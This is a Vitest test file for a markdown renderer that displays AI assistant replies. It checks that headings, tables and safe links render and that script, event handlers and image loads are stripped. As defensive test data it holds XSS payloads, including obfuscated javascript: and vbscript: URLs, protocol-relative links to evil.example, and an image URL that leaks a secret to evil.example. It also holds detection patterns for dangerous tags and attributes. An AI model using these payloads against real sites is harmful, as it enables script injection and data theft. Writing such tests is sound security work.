// @vitest-environment jsdom
// jsdom parses HTML like a browser (happy-dom lets some mutation-XSS through DOMPurify), see sanitize-html.test.ts
import { describe, expect, it } from 'vitest';
import { Marked } from 'marked';
import { isSafeHref, renderMarkdown } from '@/features/ai/markdown';
import { xssVectors } from '../../support-bench/xss-vectors';

const dangerousTags =
  'script, iframe, frame, frameset, object, embed, base, link, meta, style, form, input, button, bgsound, img, svg, math';
const urlAttributes = ['href', 'src', 'xlink:href', 'action', 'formaction', 'background', 'data', 'poster'];
const scriptUrl = /^\s*(javascript|vbscript|data:)/i;

/** Everything in the markup that could run script, load something or restyle the page. */
function findings(html: string): string[] {
  const host = document.createElement('div');
  host.innerHTML = html;
  const found: string[] = [];
  host.querySelectorAll(dangerousTags).forEach((el) => found.push(`<${el.tagName.toLowerCase()}>`));
  host.querySelectorAll('*').forEach((el) => {
    for (const attr of Array.from(el.attributes)) {
      const name = attr.name.toLowerCase();
      if (name.startsWith('on')) found.push(`${name}=`);
      if (name === 'style') found.push('style=');
      const value = attr.value.replace(/[\u0000-\u001f\s]/g, '');
      if (urlAttributes.includes(name) && scriptUrl.test(value)) found.push(`${name}=${attr.value}`);
    }
  });
  return found;
}

const dom = (html: string) => {
  const host = document.createElement('div');
  host.innerHTML = html;
  return host;
};

// each vector where a model could put it: as it is, as a link or image target, in a table, a heading, a list, code
const contexts = (v: string) => [
  v,
  `[点我](${v})`,
  `[点我](javascript:${encodeURIComponent(v)})`,
  `![图](${v})`,
  `<${v}>`,
  `| a | b |\n|---|---|\n| ${v.replace(/\|/g, '')} | x |`,
  `# ${v}`,
  `- ${v}`,
  `\`${v}\``,
  `\`\`\`html\n${v}\n\`\`\``,
  `> ${v}`,
];

describe('renderMarkdown', () => {
  it('renders headings, lists, code blocks with their language, tables and safe links', () => {
    const host = dom(
      renderMarkdown(
        '## 待办\n\n1. 第一\n2. 第二\n\n- 甲\n- 乙\n\n```ts\nconst a = 1 < 2;\n```\n\n| 流程 | 数量 |\n|---|---|\n| 请假 | 2 |\n\n[详情](/followWaitDetail?instanceId=1) [官网](https://example.com) `code`',
      ),
    );
    expect(host.querySelector('h2')?.textContent).toBe('待办');
    expect([...host.querySelectorAll('ol li')].map((li) => li.textContent)).toEqual(['第一', '第二']);
    expect(host.querySelectorAll('ul li')).toHaveLength(2);
    expect(host.querySelector('pre code')?.textContent).toBe('const a = 1 < 2;\n');
    expect(host.querySelector('pre code')?.className).toBe('language-ts');
    expect([...host.querySelectorAll('th')].map((th) => th.textContent)).toEqual(['流程', '数量']);
    expect(host.querySelector('td')?.textContent).toBe('请假');
    expect([...host.querySelectorAll('a')].map((a) => a.getAttribute('href'))).toEqual([
      '/followWaitDetail?instanceId=1',
      'https://example.com',
    ]);
    expect(host.querySelector('a')?.getAttribute('rel')).toBe('noopener noreferrer');
    expect(host.querySelector('p code')?.textContent).toBe('code');
  });

  it('shows raw HTML as text instead of markup', () => {
    const host = dom(renderMarkdown('看 <b onclick="x()">粗体</b> 这里'));
    expect(host.querySelector('b')).toBeNull();
    expect(host.textContent).toContain('<b onclick="x()">粗体</b>');
  });

  it('never loads an image by itself; an http image becomes a link to tap', () => {
    const host = dom(renderMarkdown('![统计图](https://evil.example/leak?d=secret) ![x](data:image/png;base64,AAAA)'));
    expect(host.querySelector('img')).toBeNull();
    expect(host.querySelector('a')?.getAttribute('href')).toBe('https://evil.example/leak?d=secret');
    expect(host.textContent).toContain('[图片] 统计图');
  });

  it.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    'java\tscript:alert(1)',
    'vbscript:msgbox(1)',
    'data:text/html,<script>alert(1)</script>',
    '&#106;avascript:alert(1)',
    'javascript&colon;alert(1)',
    '//evil.example',
    '/\\evil.example',
  ])('drops the link target %j', (href) => {
    expect(isSafeHref(href)).toBe(false);
    const host = dom(renderMarkdown(`[点我](${href})`));
    expect(host.querySelector('a[href]')).toBeNull();
  });

  it('keeps http(s), mailto, tel and in-app links', () => {
    for (const href of [
      'https://a.example/x',
      'http://a.example',
      'mailto:a@b.c',
      'tel:13800000000',
      '/follow/waitList',
      '#top',
    ]) {
      expect(isSafeHref(href)).toBe(true);
    }
  });

  it('the checker is meaningful: Markdown rendered without these rules would let the vectors through', () => {
    const plain = new Marked({ async: false });
    const unsafe = xssVectors.filter((v) => contexts(v).some((c) => findings(plain.parse(c) as string).length > 0));
    expect(unsafe.length).toBeGreaterThanOrEqual(30);
  });

  it.each(xssVectors.map((vector, i) => ({ vector, i })))(
    'vector #$i never produces script, handlers, javascript: URLs or loads',
    ({ vector }) => {
      for (const source of contexts(vector))
        expect({ source, found: findings(renderMarkdown(source)) }).toEqual({ source, found: [] });
    },
  );
});
